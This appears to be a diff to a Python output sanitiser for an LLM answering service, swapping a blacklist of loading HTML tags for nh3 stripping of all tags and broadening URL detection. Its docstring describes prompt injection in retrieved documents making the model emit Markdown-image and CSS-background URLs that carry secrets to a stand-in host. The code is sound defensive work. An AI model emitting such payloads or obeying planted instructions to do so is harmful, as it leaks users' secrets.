@@ -2,10 +2,13 @@
 
 A document can tell the model to write ``![x](https://host/?q=<secret>)``; a chat client
 that renders Markdown would fetch it and carry the secret out without a click. So answers
-leave the service with Markdown images and reference definitions removed, HTML tags that
-load things removed, Markdown links reduced to their text, and any URL that does not occur
-verbatim in the passages the model was shown replaced by "[link removed]" (a model cannot
-be trusted to invent a URL, and a data-carrying one never occurs in the documents).
+leave the service with Markdown images and reference definitions removed, every HTML tag
+removed (an allowlist of none, applied by nh3, the Ammonia sanitiser: a blacklist of
+"loading" tags missed ``<div style="background:url(//host/?q=secret)">``), Markdown links
+reduced to their text, and any URL that does not occur verbatim in the passages the model
+was shown replaced by "[link removed]": with or without a scheme (``//host/x``,
+``www.host.org``, ``data:``), since a model cannot be trusted to invent a URL and a
+data-carrying one never occurs in the documents.
 """
 
 from __future__ import annotations
@@ -13,12 +16,20 @@ from __future__ import annotations
 import re
 from collections.abc import Iterable, Iterator, Sequence
 
+import nh3
+
 _IMAGE = re.compile(r"!\[[^\]\n]*\]\s*(\([^)\n]*\)?|\[[^\]\n]*\]?)")
 _REF_DEF = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.MULTILINE)
-_HTML_TAG = re.compile(r"</?\s*(img|iframe|script|object|embed|link|meta|style|audio|video|source|svg|image|frame|form|input|base)\b[^>]*>?",
-                       re.IGNORECASE)
+# Something a browser or Markdown renderer could read as markup: a tag, comment or
+# declaration opening. Text without one is left exactly as generated.
+_MARKUP = re.compile(r"<[A-Za-z/!?]")
+# Every entity nh3 writes except the two that keep "<" and ">" from forming a tag again.
+_HARMLESS_ENTITIES = {"&amp;": "&", "&quot;": '"', "&#39;": "'", "&#x27;": "'", "&nbsp;": "\u00a0"}
 _LINK = re.compile(r"\[([^\]\n]*)\]\(([^)\n]*)\)")
-_URL = re.compile(r"\b(?:https?|ftp|file|data|javascript):[^\s<>()\[\]\"']*", re.IGNORECASE)
+# A URL with any scheme and "//", a scheme that needs none, protocol-relative "//host", or
+# "www.host": all of them are links to a renderer.
+_URL = re.compile(r"(?:\b[a-z][a-z0-9+.\-]*://|\b(?:data|javascript|vbscript|file|blob|mailto):|(?<![\w:/])//(?=[\w\-]+\.)"
+                  r"|\bwww\.)[^\s<>()\[\]\"'`]*", re.IGNORECASE)
 _SPACES = re.compile(r"[ \t]{2,}")
 REMOVED = "[link removed]"
 
@@ -30,7 +41,7 @@ def sanitize_answer(text: str, passages: Sequence[str] = ()) -> str:
         known.update(m.group(0).rstrip(".,;:") for m in _URL.finditer(passage))
     text = _IMAGE.sub("", text)
     text = _REF_DEF.sub("", text)
-    text = _HTML_TAG.sub("", text)
+    text = _strip_markup(text)
     text = _LINK.sub(lambda m: m.group(1), text)
 
     def url(m: re.Match) -> str:
@@ -39,6 +50,16 @@ def sanitize_answer(text: str, passages: Sequence[str] = ()) -> str:
 
     text = _URL.sub(url, text)
     return _SPACES.sub(" ", text).strip()
+
+
+def _strip_markup(text: str) -> str:
+    """Every tag removed (their text kept, script and style bodies dropped)."""
+    if not _MARKUP.search(text):
+        return text
+    clean = nh3.clean(text, tags=set(), strip_comments=True)
+    for entity, char in _HARMLESS_ENTITIES.items():
+        clean = clean.replace(entity, char)
+    return clean
 
 
 class SafeStream:
